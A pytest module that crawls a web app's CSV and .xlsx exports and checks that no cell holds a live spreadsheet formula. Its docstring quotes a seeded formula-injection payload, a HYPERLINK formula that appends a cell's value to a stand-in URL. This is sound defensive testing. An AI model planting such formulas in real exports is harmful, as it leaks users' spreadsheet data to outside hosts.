"""Every export the crawl was answered (a CSV or a spreadsheet, by its content type, from any URL and any
persona) holds no live formula: no cell begins with =, +, -, @, a tab or a carriage return unless made inert
as branches/exports.py does it — a leading apostrophe in a CSV file, text marked quote-prefixed in an .xlsx
sheet (never a formula cell).

The world seeds such text (world.FORMULAS: '=HYPERLINK("http://x/?a="&A1,"点击")' and the others) into
titles, subjects, notes and addresses, and every export URL must show at least one of them, inert: an export
that never holds a seeded value would pass without having been tested.
"""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest

from branches.exports import FORMULA_PREFIXES

from .fetching import STATS, Outcome
from .routes import route_of
from .world import FORMULAS

SPREADSHEET = re.compile(r"text/csv|spreadsheet|ms-excel")
NUMBER = re.compile(r"-\d+(\.\d+)?")  # a negative number is a number in every spreadsheet, not a formula


def cells(outcome: Outcome):
    """(where, text, inert) of each text cell of a CSV or .xlsx answer."""
    if outcome.body.startswith(b"PK"):
        book = openpyxl.load_workbook(io.BytesIO(outcome.body))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        yield f"{sheet.title}!{cell.coordinate}", str(cell.value), False
                    elif isinstance(cell.value, str):
                        yield f"{sheet.title}!{cell.coordinate}", cell.value, bool(cell.quotePrefix)
        return
    text = outcome.body.decode("utf-8-sig")
    for r, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
        for c, value in enumerate(row, start=1):
            inert = value.startswith("'")
            yield f"row {r} column {c}", value[1:] if inert else value, inert


def exports(crawl) -> list[Outcome]:
    return [o for o in crawl.files if SPREADSHEET.search(o.content_type)]


def test_no_export_holds_a_live_formula(crawl):
    found = exports(crawl)
    assert found, "the crawl was answered no CSV or spreadsheet at all"
    live = []
    for outcome in found:
        STATS.exports_scanned += 1
        for where, text, inert in cells(outcome):
            if text.startswith(FORMULA_PREFIXES) and not inert and not NUMBER.fullmatch(text):
                live.append(f"{outcome.path} as {outcome.persona}, {where}: {text[:80]!r}")
    assert not live, "live formula cells:\n" + "\n".join(live[:20])


def test_every_export_url_shows_a_seeded_formula_made_inert(crawl):
    by_route: dict[str, list[Outcome]] = {}
    for outcome in exports(crawl):
        route, _kwargs = route_of(outcome.path, crawl.by_route)
        by_route.setdefault(route.id, []).append(outcome)
    blind = [
        rid
        for rid, answers in by_route.items()
        if not any(inert and text.startswith(FORMULAS) for o in answers for _w, text, inert in cells(o))
    ]
    assert not blind, f"exports that never showed a seeded formula: {blind} (seed one in world.py)"


@pytest.mark.parametrize("seed", FORMULAS, ids=repr)
def test_each_seed_reaches_some_export(crawl, seed):
    assert any(text.startswith(seed) for o in exports(crawl) for _w, text, _inert in cells(o)), (
        f"{seed!r} is in no export: the world seeds it where no export reads"
    )
